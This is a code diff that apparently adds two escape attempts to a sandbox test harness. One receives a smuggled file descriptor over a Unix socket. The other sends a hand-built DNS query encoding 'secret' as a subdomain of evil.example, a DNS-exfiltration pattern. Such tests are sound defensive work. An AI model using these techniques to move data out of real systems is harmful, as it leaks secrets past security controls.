@@ -29,6 +29,19 @@ def sendto(kind, address):
     socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"out", address)
 
 
+def take_descriptor(path):
+    client = socket.socket(socket.AF_UNIX)
+    client.connect(path)
+    _, descriptors, _, _ = socket.recv_fds(client, 1, 1)
+    print(os.read(descriptors[0], 99).decode())
+
+
+def ask_name_server(port):
+    name = b"".join(bytes([len(label)]) + label for label in (b"c2VjcmV0", b"evil", b"example"))
+    query = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + name + b"\0\0\1\0\1"
+    socket.socket(type=socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", int(port)))
+
+
 def make_socket(family):
     socket.socket(getattr(socket, family), socket.SOCK_RAW if family != "AF_ALG" else socket.SOCK_SEQPACKET)
 
@@ -82,6 +95,8 @@ def raw_call(_):
 ATTEMPTS = {
     "connect": connect,
     "sendto": sendto,
+    "take-descriptor": take_descriptor,
+    "ask-name-server": ask_name_server,
     "socket": make_socket,
     "netlink": netlink,
     "process_vm_readv": process_vm_readv,
